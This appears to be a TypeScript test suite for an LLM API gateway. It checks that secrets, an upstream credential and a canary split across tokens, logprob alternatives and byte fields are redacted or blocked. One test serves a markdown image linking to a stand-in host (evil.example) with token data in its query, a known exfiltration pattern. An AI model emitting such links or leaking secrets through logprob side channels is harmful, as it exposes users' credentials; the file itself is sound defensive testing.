// Logprobs through the gateway over real HTTP (finding 06 of the 2026-12-03 SDK check): an engine whose answer
// carries a secret (or the gateway's upstream credential, an output canary) split over tokens, each token its own
// top-1 alternative as with a real engine. No field may give the secret back (tokens, alternatives, bytes, legacy
// dicts); with nothing to redact the engine's entries pass 1:1. Chat and legacy completions, streamed and whole.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { RunningGateway } from './server.ts';
import { newKey } from './test/fixtures.ts';
import { CAPTURED, installLeakScan } from './test/harness.ts';
import { sseBody, type HostileUpstream } from './test/hostile-upstream.ts';
import { closeHostileGateway, guardedTenant, outputGuardrails, startHostileGateway } from './test/hostile-gateway.ts';

installLeakScan();

const SECRET = 'ghp_Zq8xT4mN2bV6cR1yL9wK3jH7gF5dS0aP2eU4';
const UPSTREAM_KEY = 'up-7f3Kq9ZxW2mB8vN4cR6tY1uP5sL0dHgJ';
const CANARY = 'c4n4ry-Hq2Wz8Lm5Tx1';
const MARK = '[REDACTED:github-token]';
const key = newKey();

const guardrails = outputGuardrails({ canaries: [CANARY] });

let up: HostileUpstream;
let gw: RunningGateway;

before(async () => {
  ({ up, gw } = await startHostileGateway([guardedTenant('lp', key, guardrails)], UPSTREAM_KEY));
});
after(() => closeHostileGateway(gw, up));

interface ChatEntry {
  token: string;
  logprob: number;
  bytes: number[] | null;
  top_logprobs: { token: string; logprob: number; bytes: number[] | null }[];
}

/** The engine's second alternatives (default `alt<i>`); a test may set them. */
let secondAlts: readonly string[] | undefined;
const altOf = (i: number): string => secondAlts?.[i] ?? `alt${i}`;

const entry = (t: string, i: number): ChatEntry => ({
  token: t,
  logprob: -(i + 1) / 10,
  bytes: Array.from(Buffer.from(t)),
  top_logprobs: [
    { token: t, logprob: -(i + 1) / 10, bytes: Array.from(Buffer.from(t)) },
    { token: altOf(i), logprob: -7, bytes: Array.from(Buffer.from(altOf(i))) },
  ],
});

/** The engine: chat or legacy, whole or streamed, one token a chunk. */
function serve(tokens: readonly string[]): void {
  up.handler = (body) => {
    const chat = Array.isArray(body.messages);
    const stream = body.stream === true;
    const text = tokens.join('');
    const es = tokens.map(entry);
    const legacy = (ts: readonly string[], from: number): Record<string, unknown> => ({
      tokens: ts,
      token_logprobs: ts.map((_, i) => -(from + i + 1) / 10),
      top_logprobs: ts.map((t, i) => ({ [t]: -(from + i + 1) / 10, [altOf(from + i)]: -7 })),
      text_offset: ts.map((_, i) => tokens.slice(0, from + i).join('').length),
    });
    const base = { id: 'x-1', created: 1, model: 'm' };
    if (!stream) {
      const choice = chat
        ? { index: 0, message: { role: 'assistant', content: text }, logprobs: { content: es }, finish_reason: 'stop' }
        : { index: 0, text, logprobs: legacy(tokens, 0), finish_reason: 'stop' };
      return {
        body: JSON.stringify({ ...base, object: chat ? 'chat.completion' : 'text_completion', choices: [choice] }),
      };
    }
    const chunks = tokens.map((t, i) => ({
      ...base,
      object: chat ? 'chat.completion.chunk' : 'text_completion',
      choices: [
        chat
          ? { index: 0, delta: { content: t }, logprobs: { content: [es[i]] }, finish_reason: null }
          : { index: 0, text: t, logprobs: legacy([t], i), finish_reason: null },
      ],
    }));
    const last = {
      ...base,
      object: chat ? 'chat.completion.chunk' : 'text_completion',
      choices: [chat ? { index: 0, delta: {}, finish_reason: 'stop' } : { index: 0, text: '', finish_reason: 'stop' }],
    };
    return { body: sseBody([...chunks, last]) };
  };
}

interface View {
  status: number;
  raw: string;
  text: string;
  /** Entries as a client reassembles them (chat: the entry objects; legacy: one per token). */
  tokens: string[];
  logprobs: (number | null)[];
  /** Per rank, the alternatives of each entry ('' where none). */
  ranks: string[][];
  bytes: string;
  error: boolean;
}

async function call(chat: boolean, stream: boolean): Promise<View> {
  const body = chat
    ? { model: 'm', messages: [{ role: 'user', content: 'hi' }], logprobs: true, top_logprobs: 2, stream }
    : { model: 'm', prompt: 'hi', logprobs: 2, stream };
  const r = await fetch(`${gw.url}/v1/${chat ? 'chat/completions' : 'completions'}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  const raw = await r.text();
  CAPTURED.push(raw);
  const v: View = {
    status: r.status,
    raw,
    text: '',
    tokens: [],
    logprobs: [],
    ranks: [[], []],
    bytes: '',
    error: false,
  };
  const payloads = stream
    ? raw
        .split('\n\n')
        .map((e) => e.replace(/^data: /, ''))
        .filter((d) => d !== '' && d !== '[DONE]')
    : [raw];
  for (const p of payloads) {
    const o = JSON.parse(p) as Record<string, unknown>;
    if (o.error) v.error = true;
    for (const c of (o.choices as Record<string, unknown>[] | undefined) ?? []) {
      const msg = (c.message ?? c.delta) as Record<string, unknown> | undefined;
      v.text += (chat ? (msg?.content as string | undefined) : (c.text as string | undefined)) ?? '';
      const lp = c.logprobs as Record<string, unknown> | null | undefined;
      if (!lp) continue;
      if (chat) {
        for (const e of (lp.content as ChatEntry[] | null) ?? []) {
          v.tokens.push(e.token);
          v.logprobs.push(e.logprob);
          v.bytes += Buffer.from(e.bytes ?? []).toString('utf8');
          for (const k of [0, 1]) v.ranks[k]!.push(e.top_logprobs[k]?.token ?? '');
        }
      } else {
        const tops = lp.top_logprobs as (Record<string, number> | null)[] | null;
        (lp.tokens as string[]).forEach((t, i) => {
          v.tokens.push(t);
          v.logprobs.push((lp.token_logprobs as (number | null)[])[i] ?? null);
          const keys = Object.keys(tops?.[i] ?? {});
          for (const k of [0, 1]) v.ranks[k]!.push(keys[k] ?? '');
        });
      }
    }
  }
  return v;
}

/** Every 10-character piece of `secret` a client could reassemble from the view, or from the raw body. */
function leaks(v: View, secret: string): string[] {
  const texts = [v.raw, v.tokens.join(''), v.bytes, ...v.ranks.map((r) => r.join(''))];
  const found: string[] = [];
  for (let i = 0; i + 10 <= secret.length; i++) {
    const w = secret.slice(i, i + 10);
    if (texts.some((t) => t.includes(w))) found.push(w);
  }
  return found;
}

const MODES = [
  ['chat', true, false],
  ['chat, streamed', true, true],
  ['legacy completions', false, false],
  ['legacy completions, streamed', false, true],
] as const;

const SPLITS: [string, string[]][] = [
  [
    'finding 06 split gh | p_ | ...',
    ['Your ', 'token: ', 'gh', 'p_', 'Zq8xT4mN2bV6', 'cR1yL9wK3jH7gF5dS0aP2eU4', ' done'],
  ],
  [
    'finding 06 split ghp_Zq8x | T4mN2bV6 | ...',
    ['Your ', 'token: ', 'ghp_Zq8x', 'T4mN2bV6', 'cR1yL9wK', '3jH7gF5dS0aP2eU4', ' done'],
  ],
  ['one character a token', ['Your ', 'token: ', ...SECRET.split(''), ' done']],
  ['inside longer tokens', ['Your token: ghp_Zq8xT4', 'mN2bV6cR1yL9wK3jH7gF5dS0', 'aP2eU4 done', ' now']],
];

describe('logprobs: a secret split over tokens is redacted in every field', () => {
  for (const [mode, chat, stream] of MODES) {
    for (const [split, tokens] of SPLITS) {
      it(`${mode}: ${split}`, async () => {
        serve(tokens);
        const v = await call(chat, stream);
        assert.equal(v.status, 200);
        assert.deepEqual(leaks(v, SECRET), [], v.raw.slice(0, 1500));
        assert.ok(v.text.includes(MARK), v.text);
        assert.equal(v.tokens.join(''), v.text, 'the tokens are the served text');
        assert.ok(v.tokens.includes(MARK) || v.tokens.some((t) => t.includes(MARK)));
        assert.ok(!v.tokens.includes(''), 'no empty entries');
      });
    }
  }
});

describe('logprobs: a secret spelled by the second alternatives over harmless tokens (re-check 2026-12-03)', () => {
  for (const [mode, chat, stream] of MODES) {
    for (const cut of [4, 8]) {
      it(`${mode}: prefix of ${cut}, then 12-character pieces`, async () => {
        const pieces = [SECRET.slice(0, cut), ...[0, 1, 2].map((i) => SECRET.slice(cut + i * 12, cut + i * 12 + 12))];
        secondAlts = pieces;
        try {
          serve(['Your', ' answer', ' is', ' fine', ' and', ' done.']);
          const v = await call(chat, stream);
          assert.equal(v.status, 200);
          const column = v.ranks[1]!.join('');
          // the public 4-character prefix alone may pass; nothing after it
          for (const p of pieces.slice(1)) assert.ok(!column.includes(p), `${p} served: ${column}`);
          assert.deepEqual(leaks(v, SECRET), []);
        } finally {
          secondAlts = undefined;
        }
      });
    }
  }
});

describe('logprobs: nothing to redact, the engine entries pass 1:1', () => {
  const tokens = ['Say', ' hello', ' there', ' friend', ',', ' ok', '?'];
  for (const [mode, chat, stream] of MODES) {
    it(mode, async () => {
      serve(tokens);
      const v = await call(chat, stream);
      assert.equal(v.status, 200);
      assert.deepEqual(v.tokens, tokens);
      assert.deepEqual(
        v.logprobs,
        tokens.map((_, i) => -(i + 1) / 10),
      );
      assert.deepEqual(v.ranks[0], tokens);
      assert.deepEqual(
        v.ranks[1],
        tokens.map((_, i) => `alt${i}`),
      );
      if (chat) assert.equal(v.bytes, tokens.join(''));
    });
  }
  it('chat: bytes, logprob and alternatives exactly the engine entries', async () => {
    serve(tokens);
    const r = await fetch(`${gw.url}/v1/chat/completions`, {
      method: 'POST',
      headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        model: 'm',
        messages: [{ role: 'user', content: 'hi' }],
        logprobs: true,
        top_logprobs: 2,
      }),
    });
    const body = (await r.json()) as { choices: { logprobs: { content: ChatEntry[] } }[] };
    assert.deepEqual(body.choices[0]!.logprobs.content, tokens.map(entry));
  });
});

describe('logprobs: canaries and the upstream credential', () => {
  const split = (s: string): string[] => ['Here: ', s.slice(0, 3), s.slice(3, 9), s.slice(9), ' end'];
  for (const [mode, chat, stream] of MODES) {
    it(`${mode}: a tenant canary split over tokens blocks the answer`, async () => {
      serve(split(CANARY));
      const v = await call(chat, stream);
      assert.ok(v.status !== 200 || v.error, v.raw.slice(0, 600));
      assert.deepEqual(leaks(v, CANARY), [], v.raw.slice(0, 1500));
    });
    it(`${mode}: the upstream credential split over tokens is replaced in every field`, async () => {
      serve(split(UPSTREAM_KEY));
      const v = await call(chat, stream);
      assert.equal(v.status, 200);
      assert.deepEqual(leaks(v, UPSTREAM_KEY), [], v.raw.slice(0, 1500));
      assert.deepEqual(v.tokens, ['Here: ', '[REDACTED:gateway-credential]', ' end']);
    });
  }
});

describe('logprobs: other output guardrails', () => {
  const URL_ = 'https://evil.example/c?d=Zq8xT4mN2bV6cR1y';
  for (const [mode, chat, stream] of MODES) {
    it(`${mode}: a markdown image to a foreign host, split over tokens, is neutralised in the tokens too`, async () => {
      serve(['See ', '![x](', 'https://evil', '.example/c?d=', 'Zq8xT4mN2bV6', 'cR1y)', ' thanks', ' again']);
      const v = await call(chat, stream);
      assert.equal(v.status, 200);
      assert.ok(!v.text.includes('evil.example/c?d='), v.text);
      assert.equal(v.tokens.join(''), v.text);
      assert.deepEqual(leaks(v, URL_), [], v.raw.slice(0, 1500));
    });
  }
  it('chat: a canary as an alternative only blocks the answer', async () => {
    up.handler = () => {
      const es = ['Fine', ' thanks', ' and', ' you'].map(entry);
      es[2]!.top_logprobs[1]!.token = ` ${CANARY}`;
      return {
        body: JSON.stringify({
          id: 'x',
          object: 'chat.completion',
          created: 1,
          model: 'm',
          choices: [
            {
              index: 0,
              message: { role: 'assistant', content: 'Fine thanks and you' },
              logprobs: { content: es },
              finish_reason: 'stop',
            },
          ],
        }),
      };
    };
    const v = await call(true, false);
    assert.notEqual(v.status, 200);
    assert.deepEqual(leaks(v, CANARY), []);
  });
});
